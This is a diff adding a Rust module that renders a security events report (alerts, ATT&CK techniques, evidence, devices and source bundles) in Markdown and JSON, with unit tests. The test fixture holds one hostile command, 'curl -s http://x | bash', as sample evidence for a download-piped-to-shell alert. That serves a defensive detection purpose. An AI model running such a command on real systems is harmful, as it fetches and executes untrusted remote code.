@@ -1,0 +1,323 @@
+//! The events report: what the event rules found in imported telemetry (Defender for Endpoint
+//! exports, audit logs, the journal), as the seed's fleet alert report gives it (analysis
+//! period, events analyzed, alerts, highest severity, devices; per alert its id, severity,
+//! category, ATT&CK ids with their names, description, the evidence with the event's own time,
+//! device, action type, key fields and the bundle member and record it came from, a risk
+//! assessment of that event, and the findings of other sources that share its indicators),
+//! in Markdown ([`render`]) and JSON (the [`EventsReport`] itself, serialized).
+//!
+//! Pure: the caller gives the report already sorted (alerts by severity, then time, device and
+//! rule), and nothing here reads a clock, so the same bundles give the same bytes.
+
+use crate::markdown::md;
+use serde::Serialize;
+use std::fmt::Write as _;
+
+/// Name of the JSON document's schema.
+pub const SCHEMA: &str = "dossier-events-report";
+/// Its version.
+pub const SCHEMA_VERSION: u32 = 1;
+
+/// The whole report.
+#[derive(Clone, Debug, Default, Serialize)]
+pub struct EventsReport {
+    pub schema: String,
+    pub schema_version: u32,
+    /// First and last event time analyzed (UTC, RFC 3339); empty when there were none.
+    pub period_start: String,
+    pub period_end: String,
+    pub events_analyzed: u64,
+    pub alerts: Vec<AlertView>,
+    /// `LOW`... of the worst alert, or `NONE`.
+    pub highest_severity: String,
+    /// Alerts per event analyzed (0 when none were).
+    pub alert_ratio: f64,
+    /// Devices with events, as the sources name them (one per host key).
+    pub devices: Vec<DeviceView>,
+    /// The import bundles analyzed.
+    pub sources: Vec<SourceView>,
+    /// Alerts of `informational` severity, counted but not listed one by one.
+    pub informational: u64,
+}
+
+/// One device of the report.
+#[derive(Clone, Debug, Default, Serialize)]
+pub struct DeviceView {
+    pub device: String,
+    pub events: u64,
+    pub alerts: u64,
+    /// The triage bundle of the same host analyzed in the same run, if any.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub triage_bundle: Option<String>,
+}
+
+/// One import bundle analyzed.
+#[derive(Clone, Debug, Default, Serialize)]
+pub struct SourceView {
+    pub bundle: String,
+    pub sha256: String,
+    pub events: u64,
+}
+
+/// One alert.
+#[derive(Clone, Debug, Default, Serialize)]
+pub struct AlertView {
+    /// `ALERT-001`, in report order.
+    pub id: String,
+    /// The rule that raised it.
+    pub rule: String,
+    pub title: String,
+    /// `LOW`, `MEDIUM`, `HIGH` or `CRITICAL`.
+    pub severity: String,
+    pub category: String,
+    pub techniques: Vec<TechniqueView>,
+    pub description: String,
+    pub evidence: EvidenceView,
+    pub risk: String,
+    /// Findings of other sources (a triage bundle of this or another host, another device's
+    /// events) that share an indicator with this alert.
+    pub related: Vec<String>,
+}
+
+/// An ATT&CK technique.
+#[derive(Clone, Debug, Default, Serialize)]
+pub struct TechniqueView {
+    pub id: String,
+    pub name: String,
+}
+
+/// Where an alert comes from.
+#[derive(Clone, Debug, Default, Serialize)]
+pub struct EvidenceView {
+    /// The event's own time (the first, for an alert over several events).
+    pub time: String,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub last_time: Option<String>,
+    pub device: String,
+    pub action_type: String,
+    /// `defender_csv`, `audit`, `journal`... and the Defender table.
+    pub source: String,
+    /// The key fields, in the order they are shown.
+    pub fields: Vec<(String, String)>,
+    /// `BUNDLE: MEMBER, RECORD` of each event behind the alert (the first few).
+    pub origins: Vec<String>,
+    /// How many events the alert covers.
+    pub events: u64,
+}
+
+fn badge(severity: &str) -> &'static str {
+    match severity {
+        "CRITICAL" => "🔴 CRITICAL",
+        "HIGH" => "🟠 HIGH",
+        "MEDIUM" => "🟡 MEDIUM",
+        "LOW" => "🟢 LOW",
+        _ => "⚪ INFORMATIONAL",
+    }
+}
+
+/// The Markdown report.
+pub fn render(r: &EventsReport) -> String {
+    let mut s = String::from("# Security Analysis Report: imported events\n\n");
+    if r.events_analyzed > 0 {
+        let _ = writeln!(
+            s,
+            "**Analysis Period:** {} - {} UTC",
+            md(&r.period_start),
+            md(&r.period_end)
+        );
+    }
+    let devices: Vec<String> = r.devices.iter().map(|d| md(&d.device)).collect();
+    let _ = writeln!(s, "**Devices:** {}\n", devices.join(", "));
+    s.push_str("---\n\n## Executive Summary\n\n");
+    let _ = writeln!(s, "**Total Events Analyzed:** {}", r.events_analyzed);
+    let _ = writeln!(s, "**Alerts Generated:** {}", r.alerts.len());
+    if r.informational > 0 {
+        let _ = writeln!(
+            s,
+            "**Informational (routine activity, not listed):** {}",
+            r.informational
+        );
+    }
+    let _ = writeln!(s, "**Highest Severity:** {}", r.highest_severity);
+    let _ = writeln!(s, "**Devices Monitored:** {}", r.devices.len());
+    let _ = writeln!(
+        s,
+        "**Alert-to-Event Ratio:** {:.4} ({} alerts / {} events)\n",
+        r.alert_ratio,
+        r.alerts.len(),
+        r.events_analyzed
+    );
+    device_table(&mut s, r);
+    s.push_str("---\n\n## Security Alerts\n\n");
+    if r.alerts.is_empty() {
+        s.push_str("No alert: no event matched a rule above informational.\n\n");
+    }
+    for a in &r.alerts {
+        alert(&mut s, a);
+    }
+    s.push_str("## Sources\n\n| Import bundle | SHA-256 | Events |\n|---|---|---|\n");
+    for src in &r.sources {
+        let _ = writeln!(
+            s,
+            "| `{}` | `{}` | {} |",
+            md(&src.bundle),
+            src.sha256,
+            src.events
+        );
+    }
+    s
+}
+
+fn device_table(s: &mut String, r: &EventsReport) {
+    if r.devices.is_empty() {
+        return;
+    }
+    s.push_str("| Device | Events | Alerts | Triage bundle |\n|---|---|---|---|\n");
+    for d in &r.devices {
+        let _ = writeln!(
+            s,
+            "| {} | {} | {} | {} |",
+            md(&d.device),
+            d.events,
+            d.alerts,
+            d.triage_bundle
+                .as_deref()
+                .map_or_else(|| "none".to_string(), |b| format!("`{}`", md(b)))
+        );
+    }
+    s.push('\n');
+}
+
+fn alert(s: &mut String, a: &AlertView) {
+    let _ = writeln!(s, "### {}: {}", a.id, md(&a.title));
+    let _ = writeln!(s, "**Severity:** {}", badge(&a.severity));
+    let _ = writeln!(s, "**Category:** {}", md(&a.category));
+    let techniques: Vec<String> = a
+        .techniques
+        .iter()
+        .map(|t| format!("{} - {}", t.id, md(&t.name)))
+        .collect();
+    let _ = writeln!(
+        s,
+        "**MITRE ATT&CK:** {}\n",
+        if techniques.is_empty() {
+            "N/A".to_string()
+        } else {
+            techniques.join(", ")
+        }
+    );
+    let _ = writeln!(s, "**Description:**\n{}\n", a.description.trim());
+    let e = &a.evidence;
+    s.push_str("**Evidence:**\n");
+    let _ = writeln!(s, "- **Timestamp:** {}", md(&e.time));
+    if let Some(last) = &e.last_time {
+        let _ = writeln!(s, "- **Last event:** {} ({} events)", md(last), e.events);
+    }
+    let _ = writeln!(s, "- **Action Type:** {}", md(&e.action_type));
+    let _ = writeln!(s, "- **DeviceName:** {}", md(&e.device));
+    let _ = writeln!(s, "- **Source:** {}", md(&e.source));
+    if !e.fields.is_empty() {
+        s.push_str("- **Key Components:**\n");
+        for (k, v) in &e.fields {
+            let _ = writeln!(s, "  - {}: `{}`", md(k), md(v));
+        }
+    }
+    for o in &e.origins {
+        let _ = writeln!(s, "- **Record:** {}", md(o));
+    }
+    let _ = writeln!(s, "\n**Risk Assessment:**\n{}\n", a.risk.trim());
+    if !a.related.is_empty() {
+        s.push_str("**Seen in other sources:**\n");
+        for r in &a.related {
+            let _ = writeln!(s, "- {}", md(r));
+        }
+        s.push('\n');
+    }
+    s.push_str("---\n\n");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn sample() -> EventsReport {
+        EventsReport {
+            schema: SCHEMA.into(),
+            schema_version: SCHEMA_VERSION,
+            period_start: "2025-11-07T06:40:09.38102Z".into(),
+            period_end: "2025-11-07T06:46:38.168331Z".into(),
+            events_analyzed: 4,
+            highest_severity: "HIGH".into(),
+            alert_ratio: 0.5,
+            informational: 1,
+            devices: vec![DeviceView {
+                device: "wazuh1".into(),
+                events: 4,
+                alerts: 2,
+                triage_bundle: Some("wazuh1-20251107T070000Z.zip".into()),
+            }],
+            sources: vec![SourceView {
+                bundle: "import-1.zip".into(),
+                sha256: "ab".repeat(32),
+                events: 4,
+            }],
+            alerts: vec![AlertView {
+                id: "ALERT-001".into(),
+                rule: "event-download-exec".into(),
+                title: "Download piped to a shell".into(),
+                severity: "HIGH".into(),
+                category: "execution".into(),
+                techniques: vec![TechniqueView {
+                    id: "T1105".into(),
+                    name: "Ingress Tool Transfer".into(),
+                }],
+                description: "curl output run by bash".into(),
+                evidence: EvidenceView {
+                    time: "2025-11-07T06:46:38.168331Z".into(),
+                    last_time: None,
+                    device: "wazuh1".into(),
+                    action_type: "ScriptContent".into(),
+                    source: "defender_csv DeviceEvents".into(),
+                    fields: vec![("Command".into(), "curl -s http://x | bash".into())],
+                    origins: vec!["import-1.zip: raw/x.csv, line 3".into()],
+                    events: 1,
+                },
+                risk: "Code from the network ran as root.".into(),
+                related: vec!["wazuh1 triage: cron entry runs the same URL".into()],
+            }],
+        }
+    }
+
+    #[test]
+    fn renders_every_part_of_an_alert_and_the_summary() {
+        let t = render(&sample());
+        for want in [
+            "**Analysis Period:** 2025-11-07T06:40:09.38102Z - 2025-11-07T06:46:38.168331Z UTC",
+            "**Total Events Analyzed:** 4",
+            "**Alerts Generated:** 1",
+            "**Highest Severity:** HIGH",
+            "**Alert-to-Event Ratio:** 0.5000 (1 alerts / 4 events)",
+            "### ALERT-001: Download piped to a shell",
+            "**Severity:** 🟠 HIGH",
+            "**MITRE ATT&CK:** T1105 - Ingress Tool Transfer",
+            "- **Action Type:** ScriptContent",
+            "  - Command: `curl -s http://x \\| bash`",
+            "- **Record:** import-1.zip: raw/x.csv, line 3",
+            "**Seen in other sources:**",
+            "| wazuh1 | 4 | 2 | `wazuh1-20251107T070000Z.zip` |",
+        ] {
+            assert!(t.contains(want), "missing {want:?} in\n{t}");
+        }
+        assert_eq!(t, render(&sample()), "not deterministic");
+    }
+
+    #[test]
+    fn an_empty_report_says_so() {
+        let t = render(&EventsReport {
+            highest_severity: "NONE".into(),
+            ..Default::default()
+        });
+        assert!(t.contains("No alert"), "{t}");
+        assert!(!t.contains("Analysis Period"), "{t}");
+    }
+}
